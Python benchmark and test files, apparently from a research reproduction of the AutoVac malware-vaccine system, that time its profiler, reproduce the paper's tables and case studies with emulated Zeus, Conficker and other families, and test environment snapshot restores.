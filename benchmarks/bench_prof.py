"""Hot-path profiler (``repro.obs.prof``) performance: the cheap-hook
contract, and the profiler's own latency baseline.

Two claims are pinned (PR 9):

* **off-path overhead** — the cheap-hook contract from PR 1/4/6: with the
  profiler merged but *disabled* (the default), every hook site (API
  dispatch, the VM run loop, snapshot capture/resume, rule matching) pays
  a cached ``None``/``enabled`` test and nothing else, so the default
  pipeline stays within 5% of ``obs.disabled()``.  The *enabled* cost is
  reported alongside with a loose pathology bound: attribution mode is
  opt-in diagnostics, and its timers wrap tier segments (one
  ``perf_counter`` pair per contiguous slow run, fast-loop entry, region
  dispatch, API call) — a regression to per-instruction timing shows up
  as a multiple of the bound, not a few percent.
* **latency baseline** — per-case batch times for the profiled pipeline
  and the export path (merge + tree + folded + table over a realistic
  profile) land in ``prof_baseline.json`` under the shared
  ``per_sample_seconds`` schema, gated by ``check_bench_regression.py``
  (→ ``BENCH_prof.json``).

Artifacts: ``_artifacts/prof.txt``, ``_artifacts/prof_baseline.json``.
"""

from __future__ import annotations

import json

from repro import AutoVac, obs
from repro.corpus import build_family
from repro.obs.prof import merge_profiles, render_table, to_folded, to_tree

from benchutil import min_wall_seconds, write_artifact


def _paired_overhead(side_a, side_b, pairs=11, side_repeats=2):
    """Median of paired alternating-order a/b wall-time ratios (the
    ``test_run_telemetry_overhead`` estimator, hardened with min-of-2 per
    side per pair so one scheduler tail cannot poison a ratio)."""
    import gc
    import statistics

    ratios = []
    a_best = b_best = float("inf")
    last = None
    for i in range(pairs):
        gc.collect()
        gc.disable()
        try:
            if i % 2:
                b, _ = min_wall_seconds(side_b, repeats=side_repeats)
                a, last = min_wall_seconds(side_a, repeats=side_repeats)
            else:
                a, last = min_wall_seconds(side_a, repeats=side_repeats)
                b, _ = min_wall_seconds(side_b, repeats=side_repeats)
        finally:
            gc.enable()
        ratios.append(a / b)
        a_best = min(a_best, a)
        b_best = min(b_best, b)
    return statistics.median(ratios) - 1.0, a_best, b_best, last


def test_profiler_off_overhead():
    """Mirror of ``test_run_telemetry_overhead`` for the off path: the
    default pipeline (profiler merged, disabled) vs ``obs.disabled()``,
    paired alternating-order timings, budget <=5% — the same comparison
    PR 1/4/6 pinned for spans/metrics/flight, now crossing every profiler
    hook site.  The *enabled* cost is measured the same way against the
    default pipeline and reported in the artifact; its bound is loose
    (<=25%) because attribution mode is opt-in — the bound exists to catch
    a regression to per-instruction timing, which measures far above it.
    """
    program = build_family("zeus")
    reps = 4

    def run_default():
        obs.reset()  # steady-state cost, not unbounded span accumulation
        obs.flight.enabled = False  # has its own budget and bench
        try:
            for _ in range(reps):
                result = AutoVac().analyze(program)
        finally:
            obs.flight.enabled = True
        return result

    def run_disabled():
        with obs.disabled():
            for _ in range(reps):
                result = AutoVac().analyze(program)
        return result

    def run_prof_on():
        obs.reset()
        obs.flight.enabled = False
        obs.prof.enabled = True
        try:
            for _ in range(reps):
                result = AutoVac().analyze(program)
        finally:
            obs.prof.enabled = False
            obs.flight.enabled = True
        return result

    run_default(), run_disabled(), run_prof_on()  # warm-up all paths
    off_overhead, off_s, base_s, result = _paired_overhead(
        run_default, run_disabled
    )
    assert result.vaccines
    on_overhead, on_s, _, on_result = _paired_overhead(run_prof_on, run_default)
    assert on_result.profile, "profiled mode must actually collect"
    write_artifact(
        "prof_overhead.txt",
        "hot-path profiler overhead on the full pipeline (zeus)\n"
        f"obs.disabled() baseline:       {base_s * 1000:.2f} ms\n"
        f"default (profiler off):        {off_s * 1000:.2f} ms "
        f"-> {off_overhead:+.2%} vs disabled (budget: <=5%)\n"
        f"profiler collecting:           {on_s * 1000:.2f} ms "
        f"-> {on_overhead:+.2%} vs default (bound: <=25%)\n"
        f"profile nodes collected: {len(on_result.profile)}\n"
        "(medians of 11 paired alternating-order ratios, min-of-2 per side)\n",
    )
    assert off_overhead <= 0.05
    assert on_overhead <= 0.25


def _synthetic_profile(n_handlers: int = 40, n_regions: int = 30) -> dict:
    """A population-scale-shaped profile: a few VM tier nodes, many API
    handler nodes with read_args children, region nodes, snapshot nodes."""
    profile = {
        "vm;slow": [500_000, 4.0],
        "vm;fast": [2_000_000, 1.5],
        "vm;superblock;guard_exit": [900, 0.0],
        "snapshot;capture": [200, 0.4],
        "snapshot;capture;env_snapshot": [200, 0.3],
        "snapshot;resume": [600, 1.1],
        "snapshot;resume;env_restore": [600, 0.8],
        "rules;daemon": [4_000, 0.05],
    }
    for i in range(n_handlers):
        profile[f"api;Handler{i:03d}"] = [i + 10, 0.002 * (i + 1)]
        profile[f"api;Handler{i:03d};read_args"] = [i + 10, 0.0005 * (i + 1)]
    for i in range(n_regions):
        profile[f"vm;superblock;region@0x{0x401000 + 7 * i:08x}"] = [
            50 + i,
            0.001 * (i + 1),
        ]
    return profile


def test_prof_latency_baseline():
    """Per-case latencies for ``prof_baseline.json`` (gated in CI):

    * ``pipeline_off`` / ``pipeline_profiled`` — one conficker analysis
      with the profiler off vs collecting (their *relative* drift is the
      regression the gate normalizes out hardware to see);
    * ``export`` — merge 8 per-sample profiles and render every export
      format (tree, folded, table) from the merged result.
    """
    program = build_family("conficker")
    per_case = {}

    def run(profiled: bool):
        obs.reset()
        obs.prof.enabled = profiled
        try:
            return AutoVac().analyze(program)
        finally:
            obs.prof.enabled = False

    per_case["pipeline_off"], _ = min_wall_seconds(lambda: run(False), repeats=5)
    per_case["pipeline_profiled"], analysis = min_wall_seconds(
        lambda: run(True), repeats=5
    )
    assert analysis.profile

    shards = [_synthetic_profile() for _ in range(8)]

    def export():
        merged = merge_profiles(*shards)
        return to_tree(merged), to_folded(merged), render_table(merged)

    per_case["export"], (tree, folded, table) = min_wall_seconds(export, repeats=5)
    assert tree and folded and table

    write_artifact(
        "prof_baseline.json",
        json.dumps({"per_sample_seconds": per_case}, indent=2, sort_keys=True) + "\n",
    )
    lines = ["hot-path profiler latency baseline (best of 5)"]
    for case, seconds in sorted(per_case.items()):
        lines.append(f"  {case:<20s} {seconds * 1e3:8.2f} ms")
    lines.append("")
    lines.append("attribution for one profiled conficker analysis:")
    lines.append(render_table(analysis.profile, top=12).rstrip("\n"))
    write_artifact("prof.txt", "\n".join(lines) + "\n")
