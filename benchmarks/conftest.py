"""Shared fixtures for the reproduction benchmarks.

Heavy artifacts (the population pipeline run, the family analyses) are
computed once per session; individual benches assert the paper's *shape*
claims against them and use ``benchmark`` to time representative operations.
Rendered tables land in ``benchmarks/_artifacts/`` (the numbers recorded in
EXPERIMENTS.md regenerate from there).

Scale knob: ``REPRO_POPULATION_SIZE`` (default 240; the paper used 1,716).
"""

from __future__ import annotations

import pytest

from repro import AutoVac
from repro.corpus import GeneratorConfig, all_families, benign_suite, generate_population

from benchutil import POPULATION_SEED, POPULATION_SIZE


@pytest.fixture(scope="session")
def population():
    """(samples, PopulationResult) for the seeded corpus."""
    samples = generate_population(
        GeneratorConfig(size=POPULATION_SIZE, seed=POPULATION_SEED)
    )
    autovac = AutoVac()
    result = autovac.analyze_population([s.program for s in samples])
    return samples, result


@pytest.fixture(scope="session")
def family_analyses():
    autovac = AutoVac()
    return {p.metadata["family"]: (p, autovac.analyze(p)) for p in all_families()}


@pytest.fixture(scope="session")
def benign_programs():
    return benign_suite()
