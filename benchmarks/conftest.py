"""Shared fixtures for the reproduction benchmarks.

Heavy artifacts (the population pipeline run, the family analyses) are
computed once per session; individual benches assert the paper's *shape*
claims against them and use ``benchmark`` to time representative operations.
Rendered tables land in ``benchmarks/_artifacts/`` (the numbers recorded in
EXPERIMENTS.md regenerate from there).

Scale knobs: ``REPRO_POPULATION_SIZE`` (default 240; the paper used 1,716),
``REPRO_JOBS`` (worker processes for the shared population run) and
``REPRO_CACHE`` (result-cache directory, making repeated bench sessions
resume instead of re-analyzing).
"""

from __future__ import annotations

import pytest

from repro.core.executor import PipelineConfig, analyze_population
from repro.corpus import GeneratorConfig, all_families, benign_suite, generate_population

from benchutil import (
    POPULATION_CACHE,
    POPULATION_JOBS,
    POPULATION_SEED,
    POPULATION_SIZE,
)


@pytest.fixture(scope="session")
def population():
    """(samples, PopulationResult) for the seeded corpus."""
    samples = generate_population(
        GeneratorConfig(size=POPULATION_SIZE, seed=POPULATION_SEED)
    )
    result = analyze_population(
        [s.program for s in samples],
        config=PipelineConfig(),
        jobs=POPULATION_JOBS,
        cache=POPULATION_CACHE,
    )
    return samples, result


@pytest.fixture(scope="session")
def family_analyses():
    programs = all_families()
    result = analyze_population(
        programs,
        config=PipelineConfig(),
        jobs=POPULATION_JOBS,
        cache=POPULATION_CACHE,
    )
    return {
        p.metadata["family"]: (p, analysis)
        for p, analysis in zip(programs, result.analyses)
    }


@pytest.fixture(scope="session")
def benign_programs():
    return benign_suite()
