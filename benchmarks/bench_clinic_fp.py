"""§VI-E false-positive test — the malware clinic.

Paper: vaccines injected into 5 VMs running 40+ benign programs caused zero
problems over a week; 200 vaccines on 4 lab machines likewise.  Here every
vaccine generated for the named families plus the population pack runs
through the clinic against the benign suite.
"""

import pytest

from repro.core import clinic_test

from benchutil import write_artifact


@pytest.mark.benchmark(group="clinic")
def test_clinic_zero_false_positives_families(benchmark, family_analyses, benign_programs):
    vaccines = [v for _, analysis in family_analyses.values() for v in analysis.vaccines]
    report = clinic_test(vaccines, benign_programs)
    write_artifact(
        "clinic.txt",
        "Clinic reproduction (paper: 0 incidents)\n"
        f"vaccines tested: {len(vaccines)}\n"
        f"benign programs: {report.programs_tested}\n"
        f"incidents: {len(report.incidents)}\n",
    )
    assert report.clean
    assert len(report.passed) == len(vaccines)

    benchmark(lambda: clinic_test(vaccines[:3], benign_programs))


def test_clinic_zero_false_positives_population(population, benign_programs):
    _, result = population
    # Cap the batch for runtime; the full set is exercised by the families.
    vaccines = result.vaccines[:40]
    report = clinic_test(vaccines, benign_programs)
    assert report.clean, [i.detail for i in report.incidents]


def test_clinic_catches_a_planted_collision(benign_programs):
    """Negative control: the clinic must not be vacuously clean."""
    from repro.core import IdentifierKind, Immunization, Mechanism, Vaccine
    from repro.winenv import ResourceType

    bad = Vaccine(
        malware="control", resource_type=ResourceType.MUTEX,
        identifier="OfficeQuickstartMutex", identifier_kind=IdentifierKind.STATIC,
        mechanism=Mechanism.ENFORCE_FAILURE, immunization=Immunization.FULL,
    )
    report = clinic_test([bad], benign_programs)
    assert not report.clean and bad in report.rejected
