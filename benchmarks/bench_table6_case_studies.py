"""Table VI + §VI-D case studies — high-profile vaccines end to end.

Paper: the Zeus ``_AVIRA_2109`` mutex vaccine stops process hijacking; the
``sdra64.exe`` file vaccine (super-user-owned) stops the malicious process;
Conficker's algorithm-deterministic mutex is generated per host by replaying
the extracted slice.
"""

import pytest

from repro import MachineIdentity, SystemEnvironment, VaccinePackage, deploy
from repro.core import IdentifierKind, run_sample
from repro.taint.replay import replay_slice
from repro.winenv import ResourceType

from benchutil import write_artifact


@pytest.mark.benchmark(group="table6")
def test_zeus_avira_mutex_stops_hijacking(benchmark, family_analyses):
    program, analysis = family_analyses["zeus"]
    mutex = next(v for v in analysis.vaccines
                 if v.resource_type is ResourceType.MUTEX)
    assert mutex.identifier == "_AVIRA_2109"

    host = SystemEnvironment()
    deploy(VaccinePackage(vaccines=[mutex]), host)
    run = run_sample(program, environment=host, record_instructions=False)
    explorer = run.environment.processes.find_by_name("explorer.exe")
    svchost = run.environment.processes.find_by_name("svchost.exe")
    traffic = run.environment.network.bytes_sent_by(run.process.pid)
    write_artifact(
        "table6.txt",
        "Table VI reproduction — Zeus/_AVIRA_2109 mutex vaccine\n"
        f"explorer injected: {explorer.was_injected}\n"
        f"svchost injected:  {svchost.was_injected}\n"
        f"C&C traffic bytes: {traffic}\n",
    )
    assert not explorer.was_injected and not svchost.was_injected
    assert traffic == 0

    def immunize_and_attack():
        machine = SystemEnvironment()
        deploy(VaccinePackage(vaccines=[mutex]), machine)
        return run_sample(program, environment=machine, record_instructions=False)

    benchmark(immunize_and_attack)


def test_zeus_file_vaccine_stops_process(family_analyses):
    """§VI-D file-based vaccine: sdra64.exe decoy owned by a super user."""
    program, analysis = family_analyses["zeus"]
    file_vaccine = next(v for v in analysis.vaccines
                        if v.resource_type is ResourceType.FILE)
    host = SystemEnvironment()
    deploy(VaccinePackage(vaccines=[file_vaccine]), host)
    run = run_sample(program, environment=host, record_instructions=False)
    assert run.trace.terminated
    # The decoy survives the attack: malware could not delete/replace it.
    node = run.environment.filesystem.lookup("c:\\windows\\system32\\sdra64.exe")
    assert node is not None and bytes(node.content) == b""


@pytest.mark.benchmark(group="table6-slice")
def test_conficker_slice_vaccine_per_host(benchmark, family_analyses):
    """§VI-D mutex case study: run the slice once per host."""
    program, analysis = family_analyses["conficker"]
    vaccine = next(v for v in analysis.vaccines
                   if v.identifier_kind is IdentifierKind.ALGORITHM_DETERMINISTIC)

    host_a = SystemEnvironment(identity=MachineIdentity(computer_name="HOST-A"))
    host_b = SystemEnvironment(identity=MachineIdentity(computer_name="LONGER-HOST-B-NAME"))
    name_a = replay_slice(vaccine.slice, host_a.clone())
    name_b = replay_slice(vaccine.slice, host_b.clone())
    assert name_a != name_b
    assert name_a.startswith("Global\\HOST-A-")
    assert name_b.startswith("Global\\LONGER-HOST-B-NAME-")

    for host in (host_a, host_b):
        deploy(VaccinePackage(vaccines=[vaccine]), host)
        run = run_sample(program, environment=host, record_instructions=False)
        assert run.trace.terminated

    benchmark(lambda: replay_slice(vaccine.slice, host_a.clone()))
