"""Ablations for the design choices called out in DESIGN.md §5.

* alignment granularity: full context key vs API-name-only;
* per-byte vs whole-string identifier taint (partial static recovery);
* exclusiveness analysis on/off (false-positive vaccines);
* limitation reproduction: control-dependence evasion (paper §VII).
"""

import pytest

from repro import AutoVac
from repro.analysis import align_lcs
from repro.core import select_candidates
from repro.core.determinism import build_pattern, byte_classes
from repro.corpus import build_control_dependence_evader, build_family

from benchutil import write_artifact


@pytest.mark.benchmark(group="ablation")
def test_ablation_alignment_granularity(benchmark, family_analyses):
    """Name-only alignment over-aligns: distinct call sites collapse, so the
    diff underestimates the behaviour lost (missed-impact risk the paper
    avoids by keying on Caller-PC + static params)."""
    program, analysis = family_analyses["zeus"]
    natural = analysis.phase1.trace
    outcome = analysis.impacts[0]
    mutated = outcome.mutated_run.trace

    full_key = align_lcs(mutated.api_calls, natural.api_calls)

    def name_only(mut, nat):
        import copy

        def strip(events):
            out = []
            for e in events:
                clone = copy.copy(e)
                clone.caller_pc = 0
                clone.identifier = None
                out.append(clone)
            return out

        return align_lcs(strip(mut), strip(nat))

    coarse = name_only(mutated.api_calls, natural.api_calls)
    write_artifact(
        "ablation_alignment.txt",
        "Alignment granularity ablation (zeus, first mutated run)\n"
        f"context-key delta: mutated={len(full_key.delta_mutated)} "
        f"natural={len(full_key.delta_natural)}\n"
        f"name-only delta:   mutated={len(coarse.delta_mutated)} "
        f"natural={len(coarse.delta_natural)}\n",
    )
    assert len(coarse.delta_natural) <= len(full_key.delta_natural)

    benchmark(lambda: align_lcs(mutated.api_calls, natural.api_calls))


def test_ablation_byte_vs_whole_string_taint():
    """Whole-string taint collapses partial static into non-deterministic:
    per-byte labels are what make the regex vaccine possible."""
    program = build_family("qakbot")
    report = select_candidates(program)
    event = next(e for e in report.trace.api_calls
                 if e.api == "CreateMutexA" and e.identifier
                 and e.identifier.startswith("qbot-"))
    classes = byte_classes(event)
    per_byte = build_pattern(event.identifier, classes)
    assert per_byte is not None

    # Whole-string ablation: every byte carries the union classification.
    collapsed = ["random"] * len(classes)
    whole = build_pattern(event.identifier, collapsed)
    write_artifact(
        "ablation_taint.txt",
        "Byte-level vs whole-string taint (qakbot partial-static mutex)\n"
        f"identifier: {event.identifier}\n"
        f"per-byte pattern:     {per_byte}\n"
        f"whole-string pattern: {whole}\n",
    )
    assert whole is None  # vaccine lost without byte-level taint


def test_ablation_exclusiveness_off_produces_risky_vaccines(benign_programs):
    """Without exclusiveness analysis, shared resources become vaccines and
    the clinic catches the fallout — quantifying what the filter prevents."""
    from repro.core import clinic_test

    program = build_family("sality")  # loads the shared wmdrtc32-style dll
    with_filter = AutoVac(exclusiveness_enabled=True).analyze(program)
    without = AutoVac(exclusiveness_enabled=False).analyze(program)
    extra = len(without.vaccines) - len(with_filter.vaccines)
    report = clinic_test(without.vaccines, benign_programs)
    write_artifact(
        "ablation_exclusiveness.txt",
        "Exclusiveness ablation (sality)\n"
        f"vaccines with filter:    {len(with_filter.vaccines)}\n"
        f"vaccines without filter: {len(without.vaccines)} (+{extra})\n"
        f"clinic incidents without filter: {len(report.incidents)}\n",
    )
    assert extra >= 0


def test_mutation_vs_deployment_agreement(family_analyses):
    """Impact analysis predicts effects by mutating API results; deployment
    changes the environment.  The two must agree for every shipped vaccine —
    the property that makes mutation a valid vaccine test."""
    from repro.core import verify_all

    total = verified = 0
    lines = ["Mutation-predicted vs deployed effect"]
    for family, (program, analysis) in sorted(family_analyses.items()):
        report = verify_all(program, analysis.vaccines)
        total += len(report.results)
        verified += report.verified_count
        for r in report.results:
            lines.append(f"{family:10s} {r.vaccine.identifier:45s} "
                         f"claimed={r.claimed.value:28s} observed={r.observed.value}")
    write_artifact("ablation_verification.txt",
                   "\n".join(lines) + f"\nagreement: {verified}/{total}\n")
    assert verified == total


def test_future_work_pointer_taint_policy():
    """Paper §VII future work, implemented: table-lookup taint laundering
    beats the default data-flow policy but not the pointer-taint option —
    at a measurable over-tainting cost."""
    from repro.core import select_candidates
    from repro.corpus import build_family, build_index_launder_evader

    evader = build_index_launder_evader()
    default_miss = not select_candidates(evader).has_vaccine_potential
    recovered = select_candidates(evader, taint_addresses=True).has_vaccine_potential

    # Over-tainting cost on a normal sample: pointer taint can only add
    # influential occurrences, never remove them.
    zeus = build_family("zeus")
    strict = select_candidates(zeus)
    loose = select_candidates(zeus, taint_addresses=True)
    write_artifact(
        "ablation_pointer_taint.txt",
        "Pointer-taint policy (paper §VII future work)\n"
        f"index-launder evader missed by default policy: {default_miss}\n"
        f"recovered with taint_addresses=True: {recovered}\n"
        f"zeus influential occurrences: strict={strict.influential_occurrences} "
        f"pointer-taint={loose.influential_occurrences}\n",
    )
    assert default_miss and recovered
    assert loose.influential_occurrences >= strict.influential_occurrences


def test_limitation_control_dependence_evasion():
    """Paper §VII: propagation through control dependence (or none at all)
    evades the tainted-predicate detector — reproduce the miss."""
    evader = build_control_dependence_evader()
    report = select_candidates(evader)
    analysis = AutoVac().analyze(evader)
    write_artifact(
        "ablation_evasion.txt",
        "Control-dependence evasion (paper §VII limitation)\n"
        f"resource accesses observed: {report.total_occurrences}\n"
        f"tainted predicates: {len(report.trace.predicates)}\n"
        f"flagged by Phase I: {report.has_vaccine_potential}\n"
        f"vaccines: {len(analysis.vaccines)}\n",
    )
    assert report.total_occurrences > 0          # it *is* resource-sensitive
    assert not report.has_vaccine_potential      # …but the detector misses it
    assert not analysis.vaccines
