"""Table II — malware classification distribution.

Paper: 1,716 samples; Backdoor 42.07%, Downloader 33.44%, Trojan 10.72%,
Worm 6.06%, Adware 4.25%, Virus 3.43%.  Our seeded generator reproduces the
category mix; the benchmark times population generation.
"""

import pytest

from repro.corpus import (
    CATEGORY_WEIGHTS,
    GeneratorConfig,
    category_distribution,
    generate_population,
)

from benchutil import POPULATION_SIZE, write_artifact

PAPER_ROWS = {
    "trojan": 10.72,
    "backdoor": 42.07,
    "downloader": 33.44,
    "adware": 4.25,
    "worm": 6.06,
    "virus": 3.43,
}


@pytest.mark.benchmark(group="table2")
def test_table2_category_distribution(benchmark, population):
    samples, _ = population
    dist = category_distribution(samples)
    size = len(samples)

    lines = ["Table II reproduction — corpus classification",
             f"{'category':12s}{'paper %':>10s}{'measured %':>12s}{'count':>8s}"]
    for category, paper_pct in PAPER_ROWS.items():
        measured = 100.0 * dist.get(category, 0) / size
        lines.append(f"{category:12s}{paper_pct:10.2f}{measured:12.2f}{dist.get(category, 0):8d}")
    write_artifact("table2.txt", "\n".join(lines) + "\n")

    # Shape: ordering of the top categories must match the paper.
    assert dist["backdoor"] > dist["downloader"] > dist["trojan"]
    assert dist["trojan"] > dist.get("worm", 0) >= 0
    # Backdoor share within a loose band of 42%.
    assert 0.30 < dist["backdoor"] / size < 0.55
    # Quantified closeness: small total-variation distance, identical ranks.
    from repro.analysis.stats import rank_agreement, total_variation

    assert total_variation(dist, PAPER_ROWS) < 0.12
    assert rank_agreement(dist, PAPER_ROWS) >= 0.8

    # Benchmark: generating a (smaller) population from scratch.
    benchmark(lambda: generate_population(GeneratorConfig(size=50, seed=7)))


def test_table2_weights_match_paper():
    for category, pct in PAPER_ROWS.items():
        assert CATEGORY_WEIGHTS[category] == pytest.approx(pct / 100, abs=1e-4)
