"""Table III — zoom-in on representative vaccines.

Paper rows include: PoisonIvy mutex ``!VoqA.I4`` (ops E, impact T);
``%system32%\\twinrsdi.exe`` (C,R,W -> P,H); ``%system32%\\drivers\\*.sys``
(impact K); Zeus mutex ``_AVIRA_2109`` (C,E,R -> P,H) and file
``%system32%\\sdra64.exe`` (C,E,R,W -> T,P).
"""

import pytest

from repro import AutoVac
from repro.corpus import build_family
from repro.winenv import Operation, ResourceType

from benchutil import write_artifact

_OP_SYMBOLS = {
    Operation.CHECK: "E",
    Operation.CREATE: "C",
    Operation.READ: "R",
    Operation.WRITE: "W",
    Operation.DELETE: "D",
    Operation.EXECUTE: "X",
}

_IMPACT_SYMBOLS = {
    "full": "T",
    "disable_kernel_injection": "K",
    "disable_massive_network": "N",
    "disable_persistence": "P",
    "disable_process_injection": "H",
}


def _row(vaccine) -> str:
    ops = ",".join(sorted(_OP_SYMBOLS[o] for o in vaccine.operations))
    impact = _IMPACT_SYMBOLS[vaccine.immunization.value]
    return (f"{vaccine.resource_type.value:9s} {ops:10s} {impact:6s} "
            f"{vaccine.identifier:45s} {vaccine.malware}")


@pytest.mark.benchmark(group="table3")
def test_table3_representative_vaccines(benchmark, family_analyses):
    rows = []
    for family, (program, analysis) in sorted(family_analyses.items()):
        rows.extend(_row(v) for v in analysis.vaccines)
    header = f"{'Type':9s} {'OperType':10s} {'Impact':6s} {'Identifier':45s} Sample"
    write_artifact("table3.txt",
                   "Table III reproduction — vaccine samples\n" + header + "\n"
                   + "\n".join(rows) + "\n")
    assert len(rows) >= 10  # the paper lists 10 representative vaccines

    benchmark(lambda: AutoVac().analyze(build_family("poisonivy")))


def test_table3_poisonivy_mutex_row(family_analyses):
    _, analysis = family_analyses["poisonivy"]
    mutex = next(v for v in analysis.vaccines if v.resource_type is ResourceType.MUTEX)
    assert mutex.identifier == ")!VoqA.I4"
    assert Operation.CHECK in mutex.operations  # E
    assert mutex.immunization.value == "full"   # T


def test_table3_ibank_dropper_row(family_analyses):
    _, analysis = family_analyses["ibank"]
    dropper = next(v for v in analysis.vaccines
                   if v.identifier.endswith("twinrsdi.exe"))
    assert Operation.CREATE in dropper.operations
    assert Operation.WRITE in dropper.operations


def test_table3_sys_driver_row(family_analyses):
    _, analysis = family_analyses["sality"]
    driver = next(v for v in analysis.vaccines if v.identifier.endswith(".sys"))
    assert "drivers" in driver.identifier
    assert driver.immunization.value == "disable_kernel_injection"  # K


def test_table3_zeus_rows(family_analyses):
    _, analysis = family_analyses["zeus"]
    identifiers = {v.identifier for v in analysis.vaccines}
    assert "c:\\windows\\system32\\sdra64.exe" in identifiers
    assert "_AVIRA_2109" in identifiers
