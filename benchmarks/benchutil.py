"""Helpers shared by the benchmark modules."""

from __future__ import annotations

import os
import time
from pathlib import Path

from repro import obs

ARTIFACTS = Path(__file__).parent / "_artifacts"
ARTIFACTS.mkdir(exist_ok=True)

POPULATION_SIZE = int(os.environ.get("REPRO_POPULATION_SIZE", "240"))
POPULATION_SEED = 42
#: Worker processes for the shared population run (1 = sequential).
POPULATION_JOBS = int(os.environ.get("REPRO_JOBS", "1"))
#: Optional result-cache directory for the shared population run.
POPULATION_CACHE = os.environ.get("REPRO_CACHE") or None


def write_artifact(name: str, text: str) -> None:
    (ARTIFACTS / name).write_text(text)


def metric_total(name: str) -> float:
    """Sum of a counter family in the global ``repro.obs`` registry — benches
    report what the instrumentation already counted instead of re-counting."""
    return obs.metrics.total(name)


def metric_value(name: str, **labels) -> float:
    return obs.metrics.value(name, **labels)


def min_wall_seconds(fn, repeats: int = 5):
    """Best-of-N wall time for ``fn`` (min is the noise-robust estimator for
    overhead ratios). Returns (seconds, last_result)."""
    best = float("inf")
    result = None
    for _ in range(repeats):
        started = time.perf_counter()
        result = fn()
        elapsed = time.perf_counter() - started
        if elapsed < best:
            best = elapsed
    return best, result


def render_table(title: str, table: dict, total_label: str = "total") -> str:
    columns = sorted({c for row in table.values() for c in row})
    lines = [title, "resource".ljust(12) + "".join(c[:18].rjust(20) for c in columns)
             + total_label.rjust(8)]
    col_totals = {c: 0 for c in columns}
    for name in sorted(table):
        row = table[name]
        cells = "".join(str(row.get(c, 0)).rjust(20) for c in columns)
        lines.append(name.ljust(12) + cells + str(sum(row.values())).rjust(8))
        for c in columns:
            col_totals[c] += row.get(c, 0)
    lines.append("TOTAL".ljust(12) + "".join(str(col_totals[c]).rjust(20) for c in columns)
                 + str(sum(col_totals.values())).rjust(8))
    return "\n".join(lines) + "\n"
