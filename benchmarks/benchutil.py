"""Helpers shared by the benchmark modules."""

from __future__ import annotations

import os
from pathlib import Path

ARTIFACTS = Path(__file__).parent / "_artifacts"
ARTIFACTS.mkdir(exist_ok=True)

POPULATION_SIZE = int(os.environ.get("REPRO_POPULATION_SIZE", "240"))
POPULATION_SEED = 42


def write_artifact(name: str, text: str) -> None:
    (ARTIFACTS / name).write_text(text)


def render_table(title: str, table: dict, total_label: str = "total") -> str:
    columns = sorted({c for row in table.values() for c in row})
    lines = [title, "resource".ljust(12) + "".join(c[:18].rjust(20) for c in columns)
             + total_label.rjust(8)]
    col_totals = {c: 0 for c in columns}
    for name in sorted(table):
        row = table[name]
        cells = "".join(str(row.get(c, 0)).rjust(20) for c in columns)
        lines.append(name.ljust(12) + cells + str(sum(row.values())).rjust(8))
        for c in columns:
            col_totals[c] += row.get(c, 0)
    lines.append("TOTAL".ljust(12) + "".join(str(col_totals[c]).rjust(20) for c in columns)
                 + str(sum(col_totals.values())).rjust(8))
    return "\n".join(lines) + "\n"
