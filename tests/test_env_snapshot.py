"""Structured environment snapshots (``repro.winenv.snapshot``, PR 10).

Covers the restore semantics the pickle blob used to get for free — handle
identity, deleted-but-open orphans, phantom handles, the RNG mid-sequence —
plus the legacy-blob equivalence oracle, ``Memory.restore`` completeness,
and chaos degradation (an injected restore fault must cost a full rerun for
that candidate, never the survey).
"""

from __future__ import annotations

import pytest

from repro.core.candidate import select_candidates
from repro.core.impact import ImpactAnalyzer
from repro.core.pipeline import AutoVac
from repro.core.snapshot import pickle_env_default, pickle_env_overridden
from repro.tracing import serialize
from repro.vm.memory import Memory
from repro.winenv import IntegrityLevel, ResourceType, SystemEnvironment
from repro.winenv.objects import HandleKind, Resource
from repro.winenv.snapshot import EnvSnapshot


SYS = IntegrityLevel.SYSTEM


def roundtrip(env, proc):
    return EnvSnapshot.capture(env, proc).restore()


def machine():
    env = SystemEnvironment(rng_seed=0xBEEF)
    proc = env.spawn_process("mal.exe", integrity=IntegrityLevel.MEDIUM)
    return env, proc


class TestStructuredRestore:
    def test_basic_fields_and_process(self):
        env, proc = machine()
        env.filesystem.create("C:\\evil.dat", SYS, content=b"payload")
        proc.last_error = 5
        env2, proc2 = roundtrip(env, proc)
        assert env2 is not env and proc2 is not proc
        assert proc2.pid == proc.pid and proc2.last_error == 5
        assert env2.filesystem.read("C:\\evil.dat", SYS) == b"payload"
        assert env2.identity is env.identity  # immutable record is shared

    def test_restore_is_isolated_from_live_environment(self):
        env, proc = machine()
        env.filesystem.create("C:\\a.txt", SYS, content=b"before")
        snap = EnvSnapshot.capture(env, proc)
        # The capture run keeps executing and mutating the live machine.
        env.filesystem.write("C:\\a.txt", SYS, b"-after")
        env.mutexes.create("late", SYS)
        env2, _ = snap.restore()
        assert env2.filesystem.read("C:\\a.txt", SYS) == b"before"
        assert not env2.mutexes.exists("late")
        # And restored mutations never leak back.
        env2.filesystem.delete("C:\\a.txt", SYS)
        assert env.filesystem.exists("C:\\a.txt")

    def test_two_handles_to_one_resource_share_one_object(self):
        env, proc = machine()
        mutex, _ = env.mutexes.create("shared", SYS)
        proc.handles.allocate(HandleKind.MUTEX, mutex)
        proc.handles.allocate(HandleKind.MUTEX, mutex)
        _, proc2 = roundtrip(env, proc)
        handles = list(proc2.handles)
        assert len(handles) == 2
        assert handles[0].resource is handles[1].resource

    def test_handle_resolves_to_namespace_object_not_a_copy(self):
        env, proc = machine()
        mutex, _ = env.mutexes.create("m1", SYS)
        proc.handles.allocate(HandleKind.MUTEX, mutex)
        env2, proc2 = roundtrip(env, proc)
        (handle,) = list(proc2.handles)
        assert handle.resource is env2.mutexes.lookup("m1")

    def test_deleted_but_open_file_survives_as_orphan(self):
        env, proc = machine()
        node = env.filesystem.create("C:\\tmp\\drop.bin", SYS, content=b"XYZ")
        proc.handles.allocate(HandleKind.FILE, node)
        env.filesystem.delete("C:\\tmp\\drop.bin", SYS)
        env2, proc2 = roundtrip(env, proc)
        assert not env2.filesystem.exists("C:\\tmp\\drop.bin")
        (handle,) = list(proc2.handles)
        assert bytes(handle.resource.content) == b"XYZ"

    def test_phantom_force_success_handle_round_trips(self):
        env, proc = machine()
        ghost = Resource(name="Ghost", rtype=ResourceType.MUTEX)
        proc.handles.allocate(HandleKind.MUTEX, ghost)
        env2, proc2 = roundtrip(env, proc)
        (handle,) = list(proc2.handles)
        assert handle.resource.name == "Ghost"
        assert handle.resource.rtype is ResourceType.MUTEX
        assert not env2.mutexes.exists("Ghost")  # still phantom

    def test_handle_counter_keeps_position(self):
        env, proc = machine()
